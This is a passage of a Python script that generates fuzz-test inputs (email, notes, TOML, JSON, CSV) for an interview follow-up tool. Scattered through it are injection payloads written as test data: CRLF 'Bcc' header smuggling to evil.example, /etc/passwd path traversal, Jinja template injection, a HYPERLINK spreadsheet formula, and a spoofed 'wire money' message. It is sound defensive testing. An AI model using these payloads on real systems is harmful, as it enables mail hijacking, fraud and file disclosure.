        "".join("Content-Type: message/rfc822\r\n\r\n" for _ in range(50)) + REPLY,
    )
    put(
        "eml",
        "message_rfc822_base64_garbage.eml",
        head.replace("multipart/alternative", "multipart/mixed")
        + "--X\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n@@@@\r\n--X--\r\n",
    )
    # Reports.
    put("eml", "report_feedback_report_arf.eml", dsn(
        "Feedback-Type: abuse\r\nUser-Agent: SomeGenerator/1.0\r\nVersion: 1\r\n"
        "Original-Mail-From: <jamie@home.example>\r\nArrival-Date: Wed, 25 Nov 2026 10:00:00 +0100\r\n",
        report_type="feedback-report", part="message/feedback-report"))  # fmt: skip
    put("eml", "report_disposition_notification_mdn.eml", dsn(
        "Reporting-UA: mail.acme.example\r\nFinal-Recipient: rfc822; ada@acme.example\r\n"
        "Original-Message-ID: <20261124100000.a1b2c3d4e5f60718@home.example>\r\n"
        "Disposition: manual-action/MDN-sent-manually; displayed\r\n",
        report_type="disposition-notification", part="message/disposition-notification"))  # fmt: skip
    put("eml", "report_dsn_without_status_part.eml", dsn("", part="text/plain"))
    put(
        "eml",
        "report_dsn_fields_garbage.eml",
        dsn("::::\r\n\x00\r\nAction\r\nStatus: banana\r\nFinal-Recipient: ;;;\r\n"),
    )
    put("eml", "report_dsn_action_missing.eml", dsn(DSN_FIELDS.replace("Action: failed\r\n", "")))
    put(
        "eml",
        "report_dsn_400_recipients.eml",
        dsn(
            "Reporting-MTA: dns; x\r\n"
            + "".join(
                f"\r\nFinal-Recipient: rfc822; p{i}@acme.example\r\nAction: failed\r\nStatus: 5.1.1\r\n"
                for i in range(400)
            )
        ),
    )
    put(
        "eml",
        "report_dsn_recipient_crlf_injection.eml",
        dsn(
            DSN_FIELDS.replace(
                "rfc822; ada@acme.example", "rfc822; =?utf-8?q?ada=0D=0ABcc:x@evil.example?="
            )
        ),
    )
    put(
        "eml",
        "report_type_missing.eml",
        dsn(DSN_FIELDS).replace("report-type=delivery-status; ", ""),
    )
    put("eml", "report_boundary_cut.eml", dsn(DSN_FIELDS).replace('; boundary="B"', "; bound"))
    put(
        "eml",
        "report_status_huge_number.eml",
        dsn(DSN_FIELDS.replace("5.1.1", "5." + "9" * 500 + ".1")),
    )
    # Invitations inside mail (import reads these).
    put("eml", "invite_calendar_part_truncated.eml", invite_eml(calendar()[:150]))
    put(
        "eml",
        "invite_calendar_part_base64_garbage.eml",
        invite_eml(b"", cte="base64").replace(b"\r\n\r\n\r\n--I--", b"\r\n\r\n@@@!!!\r\n--I--"),
    )
    put(
        "eml",
        "invite_calendar_dtstart_year_0001.eml",
        invite_eml(calendar([event_lines({"DTSTART": "DTSTART:00010101T000000Z"})])),
    )
    put(
        "eml",
        "invite_calendar_duration_p99999999w.eml",
        invite_eml(calendar([event_lines({"DTEND": None, "DURATION": "DURATION:P99999999W"})])),
    )
    put(
        "eml",
        "invite_calendar_charset_unknown.eml",
        invite_eml(calendar(), ctype="text/calendar; method=REQUEST; charset=x-unknown"),
    )
    put("eml", "invite_calendar_utf16.eml", invite_eml(calendar().encode("utf-16")))
    second = calendar([event_lines({"DTSTART": "DTSTART:20301201T100000Z"})])
    part = b"--I\r\nContent-Type: text/calendar; method=REQUEST\r\n\r\n" + second.encode()
    put(
        "eml",
        "invite_two_calendar_parts_conflicting.eml",
        invite_eml(calendar()).replace(b"--I--", part + b"\r\n--I--"),
    )
    put(
        "eml",
        "invite_application_ics_not_calendar.eml",
        invite_eml(noise(4, 512), ctype="application/ics"),
    )


# --- lint inputs -------------------------------------------------------------------------

GOOD_NOTE = (
    "Subject: Thank you for today's interview\n"
    "\n"
    "Hi Ada,\n"
    "\n"
    "Thank you for taking the time to talk with me today about the Backend Engineer role at\n"
    "Acme. I enjoyed our conversation about the billing rewrite, and it made me even more\n"
    "excited about the team. My experience with PostgreSQL would let me help there quickly.\n"
    "\n"
    "Best regards,\n"
    "Jamie\n"
)


def make_notes() -> None:
    put("notes", "seed_good_thank_you.txt", GOOD_NOTE)
    put("notes", "seed_good_reply.eml", REPLY)
    put("notes", "empty_0_bytes.txt", b"")
    put("notes", "only_newlines.txt", "\n" * 5000)
    put("notes", "subject_only.txt", "Subject: Thank you\n")
    put("notes", "subject_empty_body.txt", "Subject: Thank you\n\n")
    put("notes", "subject_5000_chars.txt", "Subject: " + "Thanks " * 700 + "\n\nHi Ada,\nthanks.\n")
    put("notes", "subject_repeated_100.txt", "Subject: a\n" * 100 + "\nHi Ada\n")
    put("notes", "binary_random_4k.txt", noise(5, 4096))
    put("notes", "binary_elf_header.txt", b"\x7fELF\x02\x01\x01\x00" + noise(6, 1024))
    put("notes", "nul_bytes.txt", GOOD_NOTE.replace(" ", "\x00"))
    put("notes", "one_line_60k_chars.txt", "Subject: x\n\n" + "word " * 12_000)
    put("notes", "one_word_60k_chars.txt", "Subject: x\n\n" + "a" * 60_000)
    put("notes", "lines_5000.txt", "Subject: x\n\n" + "Thank you.\n" * 5_000)
    put("notes", "placeholders_8000_braces.txt", "Subject: x\n\n" + "{name} " * 8_000)
    put("notes", "placeholders_6000_brackets.txt", "Subject: x\n\n" + "[Name] [Company] " * 3_000)
    put("notes", "placeholders_8000_jinja.txt", "Subject: x\n\n" + "{{ x }}" * 8_000)
    put("notes", "placeholders_unclosed_nested.txt", "Subject: x\n\n" + "{[<(" * 12_000)
    put(
        "notes",
        "placeholders_dollar_percent.txt",
        "Subject: ${company}\n\nHi %(name)s, $NAME, <NAME>, XXX, TODO, ___\n",
    )
    put(
        "notes",
        "jinja_code_in_note.txt",
        "Subject: {{ ''.__class__.__mro__ }}\n\n{% for i in range(10**9) %}x{% endfor %}\n",
    )
    put("notes", "regex_hostile_exclamations.txt", "Subject: x\n\n" + "!" * 50_000 + "?")
    put("notes", "regex_hostile_spaces_then_x.txt", "Subject: x\n\n" + " " * 60_000 + "x")
    put("notes", "regex_hostile_dots.txt", "Subject: x\n\n" + ". " * 25_000)
    put("notes", "regex_hostile_emails.txt", "Subject: x\n\n" + "a@" * 30_000)
    put("notes", "regex_hostile_urls.txt", "Subject: x\n\n" + "http://" * 8_000)
    put("notes", "utf16_bom.txt", GOOD_NOTE.encode("utf-16"))
    put("notes", "utf16_le_no_bom.txt", GOOD_NOTE.encode("utf-16-le"))
    put("notes", "utf8_bom.txt", b"\xef\xbb\xbf" + GOOD_NOTE.encode())
    put("notes", "latin1.txt", GOOD_NOTE.replace("Hi Ada", "Salut Hélène").encode("latin-1"))
    put("notes", "invalid_utf8.txt", GOOD_NOTE.encode().replace(b"Acme", b"\xc3\x28\xa0\xa1"))
    put("notes", "lone_surrogate_escaped.txt", GOOD_NOTE.encode().replace(b"Ada", b"\xed\xa0\x80"))
    put("notes", "crlf_lf_cr_mixed.txt", GOOD_NOTE.replace("\n", "\r\n", 3).replace("\n\n", "\r\r"))
    put("notes", "cr_only.txt", GOOD_NOTE.replace("\n", "\r"))
    put("notes", "control_chars.txt", GOOD_NOTE.replace("Acme", "Ac\x1b[2J\x07me\x0c\x0b"))
    put(
        "notes",
        "bidi_override_and_zero_width.txt",
        GOOD_NOTE.replace("Acme", "\u202eemcA\u202c\u200b\ufeff"),
    )
    put("notes", "combining_marks_10000.txt", "Subject: x\n\nHi A" + "\u0301" * 10_000 + "da\n")
    put("notes", "emoji_only.txt", "Subject: 🙏\n\n" + "🙏🎉" * 2000 + "\n")
    put(
        "notes",
        "non_latin_scripts.txt",
        "Subject: ありがとう\n\nこんにちは 山田さん、\n本日はありがとうございました。\nمع خالص الشكر\n",
    )
    put("notes", "eml_empty_headers_only.eml", "From: a@b.example\r\n\r\n")
    put("notes", "eml_broken_mime.eml", head_multipart_broken())
    put(
        "notes",
        "eml_html_only_deep_nesting.eml",
        replace_header(REPLY, "Content-Type", "Content-Type: text/html").replace(
            "thanks", "<b>" * 10_000
        ),
    )
    put(
        "notes",
        "eml_base64_garbage_body.eml",
        replace_header(REPLY, "MIME-Version", "Content-Transfer-Encoding: base64").replace(
            "thanks", "***"
        ),
    )
    put(
        "notes",
        "eml_charset_unknown.eml",
        replace_header(REPLY, "Content-Type", "Content-Type: text/plain; charset=x-nope"),
    )
    put("notes", "eml_nul_in_headers.eml", REPLY.replace("Subject: Re:", "Subject: \x00Re:"))
    put(
        "notes",
        "eml_subject_encoded_crlf.eml",
        replace_header(REPLY, "Subject", "Subject: =?utf-8?q?a=0D=0AB?="),
    )
    put(
        "notes",
        "eml_multipart_parts_1500.eml",
        replace_header(REPLY, "Content-Type", 'Content-Type: multipart/mixed; boundary="Z"').split(
            "\r\n\r\n", 1
        )[0]
        + "\r\n\r\n"
        + "--Z\r\nContent-Type: text/plain\r\n\r\nx\r\n" * 1500
        + "--Z--\r\n",
    )


def head_multipart_broken() -> str:
    return (
        "From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="Q"\r\n\r\n--Q\r\nContent-Type: text/plain\r\n'
    )


# --- config.toml -------------------------------------------------------------------------

GOOD_TOML = """\
timezone = "Europe/Berlin"

[user]
name = "Jamie Doe"
email = "jamie@home.example"

[mail]
mode = "drafts"
smtp_host = "127.0.0.1"
smtp_port = 587
aliases = ["jamie@work.example"]
max_batch = 10

[policy]
follow_up_after_days = 7
max_notes = 3
window_start = "09:00"
window_end = "17:00"
"""


def toml_set(section: str | None, key: str, value: str) -> str:
    """GOOD_TOML with one key's value replaced (or added) as raw TOML."""
    lines = GOOD_TOML.splitlines()
    current = None
    for i, line in enumerate(lines):
        if line.startswith("["):
            current = line.strip("[]")
        elif current == section and line.split("=")[0].strip() == key:
            lines[i] = f"{key} = {value}"
            return "\n".join(lines) + "\n"
    if section is None:
        return f"{key} = {value}\n" + GOOD_TOML
    if f"[{section}]" in lines:
        at = lines.index(f"[{section}]") + 1
        lines.insert(at, f"{key} = {value}")
        return "\n".join(lines) + "\n"
    return GOOD_TOML + f"\n[{section}]\n{key} = {value}\n"


def make_toml() -> None:
    put("toml", "seed_good_config.toml", GOOD_TOML)
    put("toml", "empty_0_bytes.toml", b"")
    put("toml", "binary_random_4k.toml", noise(7, 4096))
    put("toml", "utf16_bom.toml", GOOD_TOML.encode("utf-16"))
    put("toml", "utf16_le_no_bom.toml", GOOD_TOML.encode("utf-16-le"))
    put("toml", "utf8_bom.toml", b"\xef\xbb\xbf" + GOOD_TOML.encode())
    put("toml", "latin1_value.toml", toml_set("user", "name", '"Hélène"').encode("latin-1"))
    put("toml", "invalid_utf8.toml", GOOD_TOML.encode().replace(b"Jamie Doe", b"Jamie \xff\xfe"))
    put("toml", "nul_byte.toml", GOOD_TOML.replace("Jamie Doe", "Jamie\x00Doe"))
    put("toml", "not_toml_ini_style.toml", "[user]\nname: Jamie\nemail = \n")
    put("toml", "unterminated_string.toml", toml_set("user", "name", '"Jamie'))
    put("toml", "duplicate_keys.toml", toml_set("user", "name", '"A"\nname = "B"'))
    put("toml", "duplicate_tables.toml", GOOD_TOML + '\n[user]\nname = "Again"\n')
    put("toml", "deep_array_10000.toml", "x = " + "[" * 10_000 + "]" * 10_000 + "\n")
    put(
        "toml",
        "deep_array_10000_in_policy.toml",
        toml_set("policy", "max_notes", "[" * 5_000 + "]" * 5_000),
    )
    put("toml", "deep_inline_table_2000.toml", "x = " + "{a = " * 2000 + "1" + "}" * 2000 + "\n")
    put("toml", "huge_key_count_5000.toml", "".join(f"k{i} = {i}\n" for i in range(5000)))
    for label, (section, key, value) in {
        "timezone_int": (None, "timezone", "3"),
        "timezone_unknown": (None, "timezone", '"Mars/Olympus_Mons"'),
        "timezone_path_traversal": (None, "timezone", '"../../../../etc/passwd"'),
        "timezone_empty": (None, "timezone", '""'),
        "timezone_array": (None, "timezone", '["UTC"]'),
        "user_name_int": ("user", "name", "3"),
        "user_name_crlf": ("user", "name", '"Jamie\\r\\nBcc: x@evil.example"'),
        "user_name_50k": ("user", "name", '"' + "J" * 50_000 + '"'),
        "user_email_garbage": ("user", "email", '"not an address"'),
        "user_email_two_mailboxes": ("user", "email", '"a@x.example, b@y.example"'),
        "user_email_crlf": ("user", "email", '"jamie@home.example\\r\\nBcc: x@evil.example"'),
        "user_email_datetime": ("user", "email", "1979-05-27T07:32:00Z"),
        "mail_mode_unknown": ("mail", "mode", '"yolo"'),
        "mail_smtp_port_string": ("mail", "smtp_port", '"587"'),
        "mail_smtp_port_negative": ("mail", "smtp_port", "-1"),
        "mail_smtp_port_99999": ("mail", "smtp_port", "99999"),
        "mail_smtp_port_float": ("mail", "smtp_port", "587.5"),
        "mail_smtp_port_huge_int": ("mail", "smtp_port", "9223372036854775807"),
        "mail_smtp_security_unknown": ("mail", "smtp_security", '"rot13"'),
        "mail_aliases_string": ("mail", "aliases", '"a@b.example"'),
        "mail_aliases_ints": ("mail", "aliases", "[1, 2, 3]"),
        "mail_max_batch_bool": ("mail", "max_batch", "true"),
        "mail_max_batch_negative": ("mail", "max_batch", "-10"),
        "mail_sync_minutes_zero": ("mail", "sync_minutes", "0"),
        "mail_ooo_default_days_inf": ("mail", "ooo_default_days", "inf"),
        "mail_password_command_array": ("mail", "password_command", "[1, 2]"),
        "caldav_url_not_https": ("caldav", "url", '"file:///etc/passwd"'),
        "policy_follow_up_after_days_1e308": ("policy", "follow_up_after_days", "1e308"),
        "policy_follow_up_after_days_inf": ("policy", "follow_up_after_days", "inf"),
        "policy_follow_up_after_days_nan": ("policy", "follow_up_after_days", "nan"),
        "policy_follow_up_after_days_negative": ("policy", "follow_up_after_days", "-7"),
        "policy_follow_up_after_days_zero": ("policy", "follow_up_after_days", "0"),
        "policy_follow_up_after_days_huge_int": (
            "policy",
            "follow_up_after_days",
            "9223372036854775807",
        ),
        "policy_follow_up_after_days_bool": ("policy", "follow_up_after_days", "true"),
        "policy_follow_up_after_days_string": ("policy", "follow_up_after_days", '"seven"'),
        "policy_thank_you_after_hours_1e308": ("policy", "thank_you_after_hours", "1e308"),
        "policy_final_after_days_float": ("policy", "final_after_days", "3.5"),
        "policy_max_notes_99": ("policy", "max_notes", "99"),
        "policy_max_notes_zero": ("policy", "max_notes", "0"),
        "policy_window_start_garbage": ("policy", "window_start", '"nine-ish"'),
        "policy_window_start_25h": ("policy", "window_start", '"25:00"'),
        "policy_window_start_toml_time": ("policy", "window_start", "09:00:00"),
        "policy_window_end_before_start": ("policy", "window_end", '"08:00"'),
        "policy_window_days_garbage": ("policy", "window_days", '"weekdays please"'),
        "policy_window_days_ints": ("policy", "window_days", "[0, 99]"),
        "policy_default_duration_minutes_1e308": ("policy", "default_duration_minutes", "1e308"),
        "policy_overdue_after_hours_negative": ("policy", "overdue_after_hours", "-1"),
        "policy_fading_after_days_huge": ("policy", "fading_after_days", "1e18"),
        "unknown_section_key": ("surprise", "key", '"value"'),
        "unknown_key_in_user": ("user", "shoe_size", "44"),
    }.items():
        put("toml", f"{label}.toml", toml_set(section, key, value))
    put("toml", "user_is_int.toml", "user = 3\n")
    put("toml", "mail_is_string.toml", 'mail = "smtp.example"\n')
    put("toml", "policy_is_array.toml", "policy = [1, 2]\n")
    put("toml", "user_array_of_tables.toml", '[[user]]\nname = "A"\n[[user]]\nname = "B"\n')
    put("toml", "root_is_dotted_mess.toml", 'user.name.first = "A"\n')


# --- JSON and CSV exports, SQLite backups: derived from a real home -----------------------


def followup(home: Path, *args: str) -> str:
    env = {**os.environ, "FOLLOWUP_HOME": str(home), "FOLLOWUP_NOW": NOW, "TZ": "Europe/Berlin"}
    for name in ("FOLLOWUP_DEBUG", "FOLLOWUP_DATABASE_URL", "FOLLOWUP_USER"):
        env.pop(name, None)
    proc = subprocess.run(
        [sys.executable, "-c", "from followup.cli.entry import main; main()", *args],
        env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    if proc.returncode != 0:
        raise SystemExit(f"followup {' '.join(args)} failed: {proc.stderr}")
    return proc.stdout


def small_home(home: Path) -> None:
    """A small history: a panel with a sent thank-you, a later round, a reply, a cancel."""
    followup(home, "add", "--company", "Acme", "--role", "Backend Engineer",
             "--at", "2026-11-16T14:00", "--tz", "Europe/Berlin", "--country", "DE",
             "--interviewer", "Ada Lovelace <ada@acme.example>", "--interviewer", "Bob",
             "--topic", "billing", "--skill", "PostgreSQL", "--culture", "corporate")  # fmt: skip
    followup(home, "sent", "1", "--at", "2026-11-19T10:00")
    followup(home, "add", "--application", "1", "--at", "2026-11-30T10:00",
             "--interviewer", "Carol <carol@acme.example>")  # fmt: skip
    followup(home, "add", "--company", "Beta, Inc.", "--role", "SRE", "--at",
             "2026-11-10T09:00Z", "--tz", "America/New_York", "--culture", "startup")  # fmt: skip
    followup(home, "replied", "3", "--at", "2026-11-20T08:00:00Z")
    followup(home, "add", "--company", "Gamma", "--role", "Dev", "--at", "2026-11-20T09:00Z")
    followup(home, "cancel", "4")


def at(doc: Any, path: str) -> tuple[Any, Any]:
    """(container, key) for a dotted path like 'applications.0.interviews.0.notes.1.state'."""
    keys: list[Any] = [int(k) if k.isdigit() else k for k in path.split(".")]
    for key in keys[:-1]:
        doc = doc[key]
    return doc, keys[-1]


def make_json(export: dict[str, Any]) -> None:
    def variant(name: str, change: Callable[[dict[str, Any]], None]) -> None:
        doc = copy.deepcopy(export)
        change(doc)
        put("json", name, json.dumps(doc, indent=1, ensure_ascii=False))

    def setting(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
        def change(doc: dict[str, Any]) -> None:
            box, key = at(doc, path)
            box[key] = value

        return change

    def dropping(path: str) -> Callable[[dict[str, Any]], None]:
        def change(doc: dict[str, Any]) -> None:
            box, key = at(doc, path)
            del box[key]

        return change

    def raw(name: str, path: str, literal: str) -> None:
        """A value JSON cannot hold (NaN, 1e400, huge digits) written as a raw literal."""
        marker = "__FUZZ_RAW__"
        doc = copy.deepcopy(export)
        box, key = at(doc, path)
        box[key] = marker
        put("json", name, json.dumps(doc, indent=1).replace(f'"{marker}"', literal))

    text = json.dumps(export, indent=1, ensure_ascii=False)
    put("json", "seed_real_export.json", text)
    put("json", "empty_0_bytes.json", b"")
    put("json", "not_json.json", "this is not json\n")
    put("json", "truncated_half.json", text[: len(text) // 2])
    put("json", "truncated_last_brace.json", text.rstrip()[:-1])
    put("json", "json_null.json", "null")
    put("json", "json_string.json", '"followup-export"')
    put("json", "json_number.json", "42")
    put("json", "json_empty_object.json", "{}")
    put("json", "json_empty_array.json", "[]")
    put("json", "json_array_of_export.json", f"[{text}]")
    put("json", "utf8_bom.json", b"\xef\xbb\xbf" + text.encode())
    put("json", "utf16_bom.json", text.encode("utf-16"))
    put(
        "json",
        "latin1_bytes_in_string.json",
        text.replace("Acme", "Soci\u00e9t\u00e9").encode("latin-1", "replace"),
    )
    put("json", "invalid_utf8.json", text.encode().replace(b"Acme", b"\xff\xfeAcme"))
    put("json", "lone_surrogate_escape.json", text.replace('"Acme"', '"\\ud800Acme"'))
    put(
        "json",
        "deep_nesting_5000.json",
        text.replace('"domains": ""', '"domains": ' + "[" * 5_000 + "]" * 5_000),
    )
    put("json", "deep_nesting_top_level_20000.json", "[" * 5_000 + "]" * 5_000)
    put(
        "json",
        "duplicate_key_company.json",
        text.replace('"company": "Acme",', '"company": "Acme", "company": 7,', 1),
    )
    put("json", "trailing_garbage.json", text + "\n{}garbage")
    put("json", "comments_in_json.json", "// exported\n" + text)
    app0 = "applications.0"
    iv0 = f"{app0}.interviews.0"
    note0 = f"{iv0}.notes.0"
    person0 = f"{iv0}.interviewers.0"
    for name, change in {
        "format_missing": dropping("format"),
        "format_wrong": setting("format", "someone-elses-export"),
        "format_int": setting("format", 1),
        "version_missing": dropping("version"),
        "version_99_future": setting("version", 99),
        "version_string": setting("version", "1"),
        "version_bool": setting("version", True),
        "version_negative": setting("version", -1),
        "version_float": setting("version", 1.0),
        "exported_at_garbage": setting("exported_at", "yesterday"),
        "applications_missing": dropping("applications"),
        "applications_null": setting("applications", None),
        "applications_object": setting("applications", {"a": 1}),
        "applications_string": setting("applications", "Acme"),
        "application_is_list": setting(app0, [1, 2, 3]),
        "application_is_null": setting(app0, None),
        "application_missing_company": dropping(f"{app0}.company"),
        "application_company_int": setting(f"{app0}.company", 42),
        "application_company_null": setting(f"{app0}.company", None),
        "application_company_empty": setting(f"{app0}.company", ""),
        "application_company_bool": setting(f"{app0}.company", False),
        "application_company_nul": setting(f"{app0}.company", "Ac\x00me"),
        "application_company_crlf": setting(f"{app0}.company", "Acme\r\nBcc: x@evil.example"),
        "application_company_50k": setting(f"{app0}.company", "A" * 50_000),
        "application_company_formula": setting(
            f"{app0}.company", '=HYPERLINK("http://evil.example","x")'
        ),
        "application_company_jinja": setting(f"{app0}.company", "{{ config }}{% raw %}"),
        "application_role_list": setting(f"{app0}.role", ["a", "b"]),
        "application_culture_unknown_enum": setting(f"{app0}.culture", "anarchist"),
        "application_tone_unknown_enum": setting(f"{app0}.tone", "sarcastic"),
        "application_tone_int": setting(f"{app0}.tone", 3),
        "application_country_garbage": setting(f"{app0}.country", "Narnia!!"),
        "application_domains_list": setting(f"{app0}.domains", ["acme.example"]),
        "application_id_string": setting(f"{app0}.id", "one"),
        "application_id_negative": setting(f"{app0}.id", -1),
        "application_created_at_year_0001": setting(f"{app0}.created_at", "0001-01-01T00:00:00Z"),
        "application_unknown_keys": setting(f"{app0}.surprise", {"x": [1, 2]}),
        "interviews_null": setting(f"{app0}.interviews", None),
        "interviews_object": setting(f"{app0}.interviews", {}),
        "interviews_empty": setting(f"{app0}.interviews", []),
        "interview_is_string": setting(iv0, "tomorrow"),
        "interview_missing_start_at": dropping(f"{iv0}.start_at"),
        "interview_missing_tz": dropping(f"{iv0}.tz"),
        "interview_missing_interviewers": dropping(f"{iv0}.interviewers"),
        "interview_missing_notes": dropping(f"{iv0}.notes"),
        "interview_start_at_garbage": setting(f"{iv0}.start_at", "next tuesday"),
        "interview_start_at_year_0001": setting(f"{iv0}.start_at", "0001-01-01T00:00:00Z"),
        "interview_start_at_year_9999": setting(f"{iv0}.start_at", "9999-12-31T23:59:59Z"),
        "interview_start_at_naive": setting(f"{iv0}.start_at", "2026-11-16T13:00:00"),
        "interview_start_at_int": setting(f"{iv0}.start_at", 1763298000),
        "interview_start_at_offset_plus_24h": setting(
            f"{iv0}.start_at", "2026-11-16T13:00:00+24:00"
        ),
        "interview_end_at_before_start": setting(f"{iv0}.end_at", "2020-01-01T00:00:00Z"),
        "interview_end_at_year_9999": setting(f"{iv0}.end_at", "9999-12-31T23:59:59Z"),
        "interview_tz_unknown": setting(f"{iv0}.tz", "Mars/Olympus_Mons"),
        "interview_tz_path_traversal": setting(f"{iv0}.tz", "../../../../etc/passwd"),
        "interview_tz_int": setting(f"{iv0}.tz", 1),
        "interview_duration_min_bool": setting(f"{iv0}.duration_min", True),
        "interview_duration_min_zero": setting(f"{iv0}.duration_min", 0),
        "interview_duration_min_negative": setting(f"{iv0}.duration_min", -60),
        "interview_duration_min_float": setting(f"{iv0}.duration_min", 59.5),
        "interview_duration_min_string": setting(f"{iv0}.duration_min", "60"),
        "interview_duration_min_huge": setting(f"{iv0}.duration_min", 10**30),
        "interview_round_zero": setting(f"{iv0}.round", 0),
        "interview_round_huge": setting(f"{iv0}.round", 2**63),
        "interview_round_null": setting(f"{iv0}.round", None),
        "interview_status_unknown_enum": setting(f"{iv0}.status", "ghosted"),
        "interview_status_null": setting(f"{iv0}.status", None),
        "interview_status_at_garbage": setting(f"{iv0}.status_at", "never"),
        "interview_expect_by_garbage": setting(f"{iv0}.expect_by", "2026-13-45"),
        "interview_expect_by_datetime": setting(f"{iv0}.expect_by", "2026-12-01T00:00:00Z"),
        "interview_defer_until_year_9999": setting(f"{iv0}.defer_until", "9999-12-31T23:59:59Z"),
        "interview_ics_sequence_huge": setting(f"{iv0}.ics_sequence", 10**20),
        "interview_ics_sequence_string": setting(f"{iv0}.ics_sequence", "2"),
        "interview_ics_uid_10k": setting(f"{iv0}.ics_uid", "u" * 10_000),
        "interview_next_due_at_garbage": setting(f"{iv0}.next_due_at", "soon"),
        "interview_next_kind_unknown_enum": setting(f"{iv0}.next_kind", "begging"),
        "interview_location_nul": setting(f"{iv0}.location", "Room\x001"),
        "interviewers_not_list": setting(f"{iv0}.interviewers", "Ada"),
        "interviewer_is_int": setting(person0, 7),
        "interviewer_name_missing": dropping(f"{person0}.name"),
        "interviewer_name_null": setting(f"{person0}.name", None),
        "interviewer_name_last_first": setting(f"{person0}.name", "Lovelace, Ada"),
        "interviewer_email_garbage": setting(f"{person0}.email", "not an address"),
        "interviewer_email_two_mailboxes": setting(f"{person0}.email", "a@x.example, b@y.example"),
        "interviewer_email_crlf_injection": setting(
            f"{person0}.email", "ada@acme.example\r\nBcc: x@evil.example"
        ),
        "interviewer_email_int": setting(f"{person0}.email", 5),
        "interviewer_tz_unknown": setting(f"{person0}.tz", "Nowhere/Special"),
        "interviewer_bounced_at_garbage": setting(f"{person0}.bounced_at", "bounced!"),
        "interviewer_id_string": setting(f"{person0}.id", "ada"),
        "notes_null": setting(f"{iv0}.notes", None),
        "note_is_string": setting(note0, "sent"),
        "notes_state_unknown_enum": setting(f"{note0}.state", "teleported"),
        "notes_state_sending": setting(f"{note0}.state", "sending"),
        "notes_state_unknown_value": setting(f"{note0}.state", "unknown"),
        "notes_state_int": setting(f"{note0}.state", 1),
        "notes_kind_unknown_enum": setting(f"{note0}.kind", "grovel"),
        "notes_step_99": setting(f"{note0}.step", 99),
        "notes_step_zero": setting(f"{note0}.step", 0),
        "notes_step_bool": setting(f"{note0}.step", True),
        "notes_step_string": setting(f"{note0}.step", "1"),
        "notes_step_kind_mismatch": setting(f"{note0}.kind", "final"),
        "notes_due_at_garbage": setting(f"{note0}.due_at", "whenever"),
        "notes_due_at_year_0001": setting(f"{note0}.due_at", "0001-01-01T00:00:00Z"),
        "notes_sent_at_year_9999": setting(f"{note0}.sent_at", "9999-12-31T23:59:59Z"),
        "notes_sent_at_before_interview": setting(f"{note0}.sent_at", "2000-01-01T00:00:00Z"),
        "notes_attempts_negative": setting(f"{note0}.attempts", -5),
        "notes_attempts_huge": setting(f"{note0}.attempts", 10**25),
        "notes_interviewer_id_dangling": setting(f"{note0}.interviewer_id", 999_999),
        "notes_interviewer_id_string": setting(f"{note0}.interviewer_id", "ada"),
        "notes_approved_message_spoofed": setting(
            f"{note0}.approved_message",
            "From: boss@evil.example\r\nBcc: x@evil.example\r\n\r\nwire money",
        ),
        "notes_message_id_crlf": setting(f"{note0}.message_id", "<a@b>\r\nBcc: x@evil.example"),
        "notes_body_50k": setting(f"{note0}.body", "x" * 50_000),
        "notes_subject_crlf": setting(f"{note0}.subject", "Hi\r\nBcc: x@evil.example"),
    }.items():
        variant(f"{name}.json", change)

    def approval(doc: dict[str, Any]) -> None:
        note = doc["applications"][0]["interviews"][1]["notes"][0]
        note.update({
            "state": "pending", "approved_at": NOW, "approved_to": "x@evil.example",
            "approved_digest": "0" * 64, "claimed_at": NOW, "claimed_by": "w1",
            "lease_until": "9999-12-31T23:59:59Z",
            "approved_message": "From: ceo@acme.example\r\nTo: x@evil.example\r\n\r\nhi",
        })  # fmt: skip

    variant("notes_pending_with_full_approval_and_claim.json", approval)

    def dup(path: str) -> Callable[[dict[str, Any]], None]:
        def change(doc: dict[str, Any]) -> None:
            box, key = at(doc, path)
            box.append(copy.deepcopy(box[key]))

        return change

    variant("ids_duplicate_application.json", dup("applications.0"))
    variant("ids_duplicate_interview.json", dup(f"{app0}.interviews.0"))
    variant("ids_duplicate_note.json", dup(f"{iv0}.notes.0"))
    variant("ids_duplicate_interviewer.json", dup(f"{iv0}.interviewers.0"))

    def same_ids(doc: dict[str, Any]) -> None:
        for app in doc["applications"]:
            app["id"] = 1

    variant("ids_every_application_1.json", same_ids)

    def many(doc: dict[str, Any]) -> None:
        base = doc["applications"][-1]
        doc["applications"] = [dict(copy.deepcopy(base), id=i) for i in range(45)]

    variant("applications_45_same_company.json", many)
    raw("interview_duration_min_nan.json", f"{iv0}.duration_min", "NaN")
    raw("interview_duration_min_infinity.json", f"{iv0}.duration_min", "Infinity")
    raw("interview_duration_min_1e400.json", f"{iv0}.duration_min", "1e400")
    raw("interview_duration_min_5000_digits.json", f"{iv0}.duration_min", "9" * 5000)
    raw("interview_round_negative_zero_float.json", f"{iv0}.round", "-0.0")
    raw("version_nan.json", "version", "NaN")
    raw("notes_step_1e308.json", f"{note0}.step", "1e308")
    raw("application_id_1e400.json", f"{app0}.id", "-1e400")


CSV_TRACKER = (
    "Company,Job Title,Interview Date,Contact Email\r\n"
    "Acme,Backend Engineer,2026-12-01 14:00,ada@acme.example\r\n"
    "Beta,SRE,2026-12-02 10:00,bob@beta.example\r\n"
)


def make_csv(export: str) -> None:
    lines = export.splitlines()
    header, rows = lines[0], lines[1:]
    cols = header.split(",")

    def with_cell(column: str, value: str, row: int = 0) -> str:
        import csv
        import io

        table = list(csv.reader(io.StringIO(export)))
        table[row + 1][table[0].index(column)] = value
        out = io.StringIO()
        csv.writer(out, lineterminator="\r\n").writerows(table)
        return out.getvalue()

    put("csv", "seed_real_export.csv", export)
    put("csv", "seed_tracker_headers.csv", CSV_TRACKER)
    put("csv", "empty_0_bytes.csv", b"")
    put("csv", "header_only.csv", header + "\r\n")
    put("csv", "no_header_rows_only.csv", "\r\n".join(rows) + "\r\n")
    put("csv", "one_column.csv", "company\r\nAcme\r\n")
    put("csv", "blank_lines_everywhere.csv", "\r\n\r\n" + "\r\n\r\n".join(lines) + "\r\n\r\n")
    put("csv", "utf8_bom.csv", b"\xef\xbb\xbf" + export.encode())
    put("csv", "utf16_bom.csv", export.encode("utf-16"))
    put("csv", "utf16_le_no_bom.csv", export.encode("utf-16-le"))
    put("csv", "latin1.csv", with_cell("company", "Société Générale").encode("latin-1"))
